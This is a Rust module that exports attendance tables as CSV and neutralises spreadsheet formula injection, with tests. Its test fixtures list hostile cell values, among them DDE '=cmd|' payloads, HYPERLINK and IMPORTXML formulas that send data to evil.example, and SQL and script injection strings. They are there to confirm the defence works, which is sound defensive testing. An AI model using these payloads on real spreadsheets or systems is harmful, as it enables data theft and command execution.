//! Tables as files: cells, and the two formats.
//!
//! CSV is RFC 4180: commas, CRLF, quotes doubled in quotes; UTF-8 with a byte order mark, without which Excel reads
//! it in the code page of the machine. A text that a spreadsheet would take for a formula is written with an apostrophe
//! before it (OWASP ASVS 5.0, 1.2.10), so that a pupil who is called `=cmd|...` stays a name. Numbers are numbers.
//!
//! XLSX (`spreadsheet.rs`) has text cells, which are never formulas, and no apostrophes.
//!
//! Not here: which tables there are (`exports.rs`).

use std::borrow::Cow;

use rollcall_core::{SiteZone, UtcInstant};

/// What is in a cell.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Cell {
    /// Text, whatever it looks like.
    Text(String),
    /// A number.
    Number(i64),
    /// Nothing.
    Empty,
}

/// A row has as many cells as its table has columns.
pub(crate) type Row = Vec<Cell>;

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Self::Text(text.to_owned())
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Self::Text(text)
    }
}

impl From<u32> for Cell {
    fn from(number: u32) -> Self {
        Self::Number(number.into())
    }
}

/// A moment as the clocks of the site showed it: `2026-11-24 08:45:00`. In the hour that they show twice it is not
/// told which; the column in UTC beside it tells.
pub(crate) fn site_time(zone: &SiteZone, time: Option<UtcInstant>) -> Cell {
    let text = |time| {
        let (day, clock) = (zone.day(time), zone.time(time));
        format!("{day} {:02}:{:02}:{:02}", clock.hour(), clock.minute(), clock.second())
    };
    time.map_or(Cell::Empty, |time| Cell::Text(text(time)))
}

/// A moment in UTC: `2026-11-24T08:45:00Z`, with as many digits of a second as it has.
pub(crate) fn utc_time(time: UtcInstant) -> Cell {
    Cell::Text(time.to_string())
}

/// Writes rows as CSV into memory that the caller empties.
pub(crate) struct CsvRows {
    writer: csv::Writer<Vec<u8>>,
}

impl CsvRows {
    /// With the byte order mark and the names of the columns.
    pub(crate) fn new(columns: &[String]) -> Self {
        let mut begin = Vec::from("\u{feff}");
        begin.reserve(8 << 10);
        let writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(begin);
        let mut rows = Self { writer };
        rows.push(&columns.iter().map(|column| Cell::Text(column.clone())).collect::<Vec<_>>());
        rows
    }

    /// Adds a row.
    pub(crate) fn push(&mut self, row: &[Cell]) {
        let fields = row.iter().map(|cell| match cell {
            Cell::Text(text) => formula_safe(text),
            Cell::Number(number) => Cow::Owned(number.to_string()),
            Cell::Empty => Cow::Borrowed(""),
        });
        // Writing into memory does not fail, and rows are as long as their table is wide.
        let written = self.writer.write_record(fields.map(|field| field.into_owned().into_bytes()));
        debug_assert!(written.is_ok(), "{written:?}");
    }

    /// What was written since the last time.
    pub(crate) fn take(&mut self) -> Vec<u8> {
        let flushed = self.writer.flush();
        debug_assert!(flushed.is_ok(), "{flushed:?}");
        let next = csv::WriterBuilder::new()
            .has_headers(false)
            .terminator(csv::Terminator::CRLF)
            .from_writer(Vec::with_capacity(8 << 10));
        std::mem::replace(&mut self.writer, next).into_inner().unwrap_or_default()
    }
}

/// The text, with an apostrophe before it when a spreadsheet could take it for a formula.
fn formula_safe(text: &str) -> Cow<'_, str> {
    let first = text.chars().find(|c| is_formula_sign(*c) || !is_passed_over(*c));
    match first {
        Some(c) if is_formula_sign(c) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// What a formula, or a command in its place, begins with; the full-width forms are those that programs for East Asian
/// scripts take for the same.
fn is_formula_sign(c: char) -> bool {
    matches!(
        c,
        '=' | '+'
            | '-'
            | '@'
            | '\t'
            | '\r'
            | '\n'
            | '\0'
            | '＝'
            | '＋'
            | '－'
            | '＠'
            | '﹦'
            | '﹢'
            | '﹣'
            | '﹫'
            | '−'
    )
}

/// What an import may strip, or not show, before it looks.
fn is_passed_over(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(c, '"' | '\'' | '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}')
}

#[cfg(test)]
pub(crate) mod tests {
    #![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

    use proptest::prelude::*;

    use super::*;

    /// The names of FAULTS.md 96, and more of their kind.
    pub(crate) fn hostile_names() -> Vec<String> {
        let mut names: Vec<String> = [
            "=cmd|' /C calc'!A0",
            "+1",
            "-1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u{a0}=1+1",
            "\"=1+1\"",
            "'=1+1",
            "＝1+1",
            "＠SUM(A1)",
            "\u{feff}=1+1",
            "\u{202e}=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
            "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
            "a,b;c\td",
            "say \"hello\"",
            "two\r\nlines",
            "\u{202e}evil.exe",
            "Nguyễn Thị Ánh 😀",
            "<script>alert(1)</script>&amp;",
            "_x0041_",
            "1,000",
            "'; drop table person; --",
            "",
        ]
        .map(str::to_owned)
        .to_vec();
        names.push("漢".repeat(10 << 10));
        names.push("=".repeat(10 << 10));
        names
    }

    fn written(rows: &[Vec<Cell>]) -> Vec<u8> {
        let mut csv = CsvRows::new(&["name".to_owned(), "count".to_owned()]);
        let mut bytes = Vec::new();
        for row in rows {
            csv.push(row);
            bytes.extend(csv.take());
        }
        bytes.extend(csv.take());
        bytes
    }

    fn read(bytes: &[u8]) -> Vec<Vec<String>> {
        let text = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text);
        reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    #[test]
    fn f096_names_that_are_formulas_come_back_as_text_and_as_the_same_name() {
        let names = hostile_names();
        let rows: Vec<Row> =
            names.iter().map(|name| vec![Cell::from(name.as_str()), Cell::Number(-7)]).collect();
        let read = read(&written(&rows));
        assert_eq!(read.len(), names.len() + 1);
        for (name, row) in names.iter().zip(&read[1..]) {
            let shown = row[0].strip_prefix('\'').filter(|_| row[0] != *name).unwrap_or(&row[0]);
            assert_eq!(shown, name);
            let trimmed = row[0].trim_start_matches([' ', '"', '\u{a0}', '\u{feff}', '\u{202e}']);
            assert!(!trimmed.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＠']), "{:?}", row[0]);
            assert_eq!(row[1], "-7", "a number stays one");
        }
    }

    #[test]
    fn ordinary_names_and_codes_are_written_as_they_are() {
        for text in
            ["Anna", "O'Neill", "Jean-Luc", "/", "\\", "#", "?", "Y4", "2026-11-24 08:45:00", "a=b", "1"]
        {
            assert_eq!(formula_safe(text), text);
        }
    }

    #[test]
    fn a_file_is_as_rfc_4180_has_it() {
        let rows = [vec![Cell::from("a,\"b\"\r\nc"), Cell::Number(3)], vec![Cell::Empty, Cell::Number(0)]];
        let expected = "\u{feff}name,count\r\n\"a,\"\"b\"\"\r\nc\",3\r\n,0\r\n";
        assert_eq!(String::from_utf8(written(&rows)).unwrap(), expected);
    }

    #[test]
    fn f052_times_are_those_of_the_site_and_never_doubtful_in_utc() {
        let zone = SiteZone::named("Europe/London").unwrap();
        let first = UtcInstant::from_micros(1_792_888_200_000_000);
        let second = first.after(std::time::Duration::from_secs(3_600));
        assert_eq!(first.to_string(), "2026-10-25T00:30:00Z");
        assert_eq!(site_time(&zone, Some(first)), Cell::from("2026-10-25 01:30:00"));
        assert_eq!(site_time(&zone, Some(second)), Cell::from("2026-10-25 01:30:00"));
        assert_ne!(utc_time(first), utc_time(second));
        assert_eq!(site_time(&zone, None), Cell::Empty);
    }

    proptest! {
        #[test]
        fn any_text_comes_back(texts in prop::collection::vec(any::<String>(), 1..8)) {
            let row: Row = texts.iter().map(|text| Cell::from(text.as_str())).collect();
            let columns = vec!["c".to_owned(); texts.len()];
            let mut csv = CsvRows::new(&columns);
            csv.push(&row);
            let read = read(&csv.take());
            for (text, cell) in texts.iter().zip(&read[1]) {
                prop_assert!(cell == text || cell.strip_prefix('\'') == Some(text));
                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
            }
        }
    }
}
